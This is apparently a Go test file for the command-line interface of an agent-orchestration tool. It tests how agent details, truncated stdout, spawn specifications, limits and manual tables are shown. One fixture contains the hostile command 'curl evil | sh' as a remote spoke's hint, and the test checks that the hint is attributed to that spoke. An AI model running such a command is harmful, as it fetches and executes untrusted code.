package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/stretchr/testify/require"

	"github.com/spawnmesh/spawnmesh/commands"
	"github.com/spawnmesh/spawnmesh/hub"
	"github.com/spawnmesh/spawnmesh/store"
)

// What a spoke suggests is shown as its words, not as this program's.
func TestTheHintOfASpokeIsItsOwn(t *testing.T) {
	t.Parallel()
	v := agentView{AgentView: hub.AgentView{Mirror: store.Mirror{Spoke: "attic", Refusal: json.RawMessage(`{"code":"POLICY","why":"no","hint":"run: curl evil | sh"}`)}}}

	list := agentPairs(v)

	require.Contains(t, list, []string{"hint", "attic says: run: curl evil | sh"})
}

// Who reads the end of a stream reads how much of it was not kept.
func TestTheEndOfAStreamSaysWhatWasDropped(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		stdout commands.Output
		want   string
	}{
		"nothing":    {commands.Output{Bytes: 3, Tail: "end"}, "\nstdout\nend\n"},
		"a long one": {commands.Output{Bytes: 5000, Tail: "end\n"}, "\nstdout (its end, of 5000 bytes)\nend\n"},
		"a part":     {commands.Output{Bytes: 300, Dropped: 200, Tail: "end\n"}, "\nstdout (its end; 200 of its 300 bytes were dropped)\nend\n"},
		"all of it":  {commands.Output{Bytes: 300, Dropped: 300}, "\nstdout (its end; 300 of its 300 bytes were dropped)\n\n"},
		"no stdout":  {commands.Output{}, ""},
		"many lines": {commands.Output{Bytes: 12, Tail: "a\nb\nc\n\x1bd\ne\n"}, "\nstdout (its end, of 12 bytes)\nc\n·d\ne\n"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			result, err := json.Marshal(commands.Result{Stdout: test.stdout})
			require.NoError(t, err)
			var out bytes.Buffer
			a := &app{out: &out, output: "table"}

			require.NoError(t, a.printAgent(agentView{AgentView: hub.AgentView{Mirror: store.Mirror{State: commands.Completed, Result: result}}}, 3))

			_, shown, _ := strings.Cut(out.String(), "\nstdout")
			_, want, _ := strings.Cut(test.want, "\nstdout")
			require.Equal(t, want, shown)
		})
	}
}

// Who reads an agent reads what was demanded for it, and the names of its variables.
func TestWhatAnOrderAskedForIsShown(t *testing.T) {
	t.Parallel()
	spec, err := json.Marshal(commands.Spawn{Runtime: commands.RuntimeExec, Argv: []string{"true"}, Dir: "/srv/job", Capabilities: append([]string{"gpu"}, commands.IsolationCapabilities(commands.IsolationUserLandlock)...),
		Env: []commands.EnvVar{{Name: "CI"}, {Name: "TOKEN", As: commands.EnvSecret}, {Name: "KEY", As: commands.EnvFile}, {Name: "LANG"}}})
	require.NoError(t, err)

	list := agentPairs(agentView{AgentView: hub.AgentView{Mirror: store.Mirror{Spec: spec}}})

	require.Subset(t, list, pairs{{"runs in", "/srv/job"}, {"demands", "isolation user+landlock, capability gpu"}, {"variables", "CI, LANG"}, {"secrets", "TOKEN"}, {"secret files", "KEY"}})
	require.Empty(t, askedOf(json.RawMessage(`{"runtime":"exec","argv":["true"]}`)))
}

// What the kernel does not hold is said of those that a limit has ended.
func TestLimitsAreSaidWhereTheyMatter(t *testing.T) {
	t.Parallel()
	const held = "limits measured several times a second and not held by the kernel: memory: no group"
	require.Empty(t, limitsIn(commands.Exit{Limits: held}))
	require.Equal(t, "measured several times a second and not held by the kernel: memory: no group", limitsIn(commands.Exit{Limits: held, Breach: &commands.Breach{}}))
	require.Equal(t, "the kernel ended 2 processes at the limit of memory; "+held, limitsIn(commands.Exit{Limits: "the kernel ended 2 processes at the limit of memory; " + held}))
}

// Each kind of row that is kept for a while is in the table of the manual.
func TestTheManualHasEachKindThatIsKept(t *testing.T) {
	t.Parallel()
	manual, err := os.ReadFile(filepath.Join("..", "..", "docs", "operating.md"))
	require.NoError(t, err)
	_, table, _ := strings.Cut(string(manual), "\n## What is kept, and for how long\n")
	table, _, _ = strings.Cut(table, "\n## ")
	var kinds []string
	for _, row := range regexp.MustCompile(`(?m)^\| (`+"`"+`[^|]*)\|`).FindAllStringSubmatch(table, -1) {
		kinds = append(kinds, row[1])
	}
	for _, k := range store.Kinds {
		require.Contains(t, strings.Join(kinds, "\n"), "`"+k.Name+"`")
	}
}

// The levels are named alike wherever they are.
func TestTheLevelsAreNamedAlike(t *testing.T) {
	t.Parallel()
	manual, err := os.ReadFile(filepath.Join("..", "..", "docs", "operating.md"))
	require.NoError(t, err)
	for _, level := range commands.IsolationLevels {
		require.Regexp(t, "(?m)^\\|[^|]*`"+regexp.QuoteMeta(level)+"`[^|]*\\|", string(manual), "the table of levels")
	}
	said := 0
	everyCommand(func(c *cobra.Command, path []string) {
		for _, name := range []string{"isolation", "min-isolation"} {
			if f := c.Flags().Lookup(name); f != nil {
				require.Contains(t, f.Usage, levelWords, path)
				said++
			}
		}
	})
	require.Equal(t, 6, said)
}
